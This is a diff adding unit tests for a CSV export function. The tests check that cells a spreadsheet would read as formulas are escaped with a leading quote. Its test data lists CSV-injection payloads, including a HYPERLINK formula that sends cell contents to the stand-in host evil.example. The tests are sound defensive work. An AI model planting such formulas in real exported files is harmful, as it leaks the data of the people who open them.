@@ -53,3 +53,32 @@ describe('fileSlug', () => {
     expect(fileSlug('***')).toBe('export');
   });
 });
+
+describe('toCsv and spreadsheet formulas', () => {
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")\nline2',
+    '=1\r\n=2',
+    '+1',
+    '-1+1',
+    '@SUM(1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '\u00a0@SUM(1)',
+    '\uFF1D1+1',
+    '\0=1',
+  ];
+  const cells = (csv: string) => Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
+
+  it('writes every text cell that a spreadsheet would read as a formula behind a quote, line breaks and all', () => {
+    const [row = []] = cells(toCsv(HOSTILE, [HOSTILE]));
+    expect(row).toEqual(HOSTILE.map((v) => `'${v}`));
+    for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
+  });
+
+  it('leaves numbers as numbers (a negative figure is not a formula) and ordinary text as it is', () => {
+    const [row = []] = cells(toCsv(['a', 'b', 'c', 'd', 'e'], [[-5, -0.25, 'hiking boots', 'a=b', 'x -1']]));
+    expect(row).toEqual(['-5', '-0.25', 'hiking boots', 'a=b', 'x -1']);
+  });
+});
